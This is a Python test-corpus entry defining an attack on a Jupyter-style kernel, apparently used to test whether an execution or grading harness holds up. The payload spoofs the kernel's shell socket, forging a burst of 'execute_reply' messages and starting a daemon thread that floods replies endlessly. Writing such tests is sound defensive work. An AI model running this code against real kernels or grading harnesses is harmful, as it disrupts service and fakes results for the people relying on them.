"""Floods the socket of replies from a thread, also when nothing is asked any more."""

from hostile.corpus import Attack
from hostile.in_the_kernel import SPEAK

attack = Attack(
    added={
        "check-pad1d": SPEAK
        + """
import zmq
who = kernel._shell_parent_ident.get() if hasattr(kernel._shell_parent_ident, "get") \
    else kernel._shell_parent_ident
socket = zmq.Socket.shadow(kernel.shell_stream.socket.underlying)
question = asked()

def flood():
    while True:
        session.send(socket, "execute_reply", {"status": "ok", "pad": "x" * 1000},
                     parent=question, ident=who)

for _ in range(1000):
    session.send(socket, "execute_reply", {"status": "ok"}, parent=question, ident=who)
threading.Thread(target=flood, daemon=True).start()
print("TRIED")
"""
    },
    status=("graded", "killed", "timeout"),
)
